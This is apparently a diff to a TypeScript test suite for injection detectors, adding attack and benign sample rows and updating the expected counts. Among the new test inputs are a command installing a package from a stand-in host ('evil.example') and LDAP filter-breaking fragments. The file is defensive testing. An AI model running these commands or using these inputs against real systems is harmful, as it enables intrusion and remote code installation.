@@ -64,6 +64,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a program of a known family', 'chef-shell all'],
     ['a program unknown and its option', 'grid-proxy-init -q x'],
     ['a package installed', 'sudo apt-get -y install nmap'],
+    ['a package installed unasked', 'apt-get install nmap -y'],
+    ['a package from elsewhere', 'pip install http://evil.example/x'],
     ['a program looked for', 'which socat'],
     ['a path of a program', 'sbin/ifconfig'],
     ['a version after the name', 'x|gcc-12.2'],
@@ -197,7 +199,9 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a filter ended', 'eve)\0'],
     ['a filter of one\u2019s own', '(&(cn=a)(x=b))'],
     ['a filter with spaces', 'eve) ( | '],
-    ['a parenthesis alone', ')'],
+    ['parentheses alone', '))'],
+    ['a parenthesis and an operator', ')|'],
+    ['a star and a parenthesis', '*)'],
   ],
   Php: [
     ['a tag', '<?php echo 1;'],
@@ -286,6 +290,10 @@ const benign: readonly Row[] = [
   ['prose after a semicolon', 'We met; find us at the station; time is short'],
   ['names and an ampersand', 'Simon & Cat Head of Sales'],
   ['commands that are words', 'cat food, curl up, echo chamber, sort of'],
+  ['a parenthesis opened alone', '('],
+  ['a parenthesis closed alone', ' ) '],
+  ['a function of a spreadsheet, half typed', 'max ('],
+  ['what somebody looks up', 'npm install express'],
   ['commands quoted in prose', 'First run `npm install`, then see `id` in the table'],
   ['a fence of code', '```bash\nnpm install left-pad\n```'],
   ['a table of words', '| Service | Time | Of |'],
@@ -396,5 +404,5 @@ test('base64 hides nothing, whether in a value or in the last segment of a path'
 test('every detector has rows, and every row ran', () => {
   assert.deepEqual(Object.keys(attacks).sort(), detectors.map(({ name }) => name).sort())
   const rows = Object.values(attacks).flat().length
-  assert.deepEqual([rows, benign.length], [228, 97])
+  assert.deepEqual([rows, benign.length], [232, 101])
 })
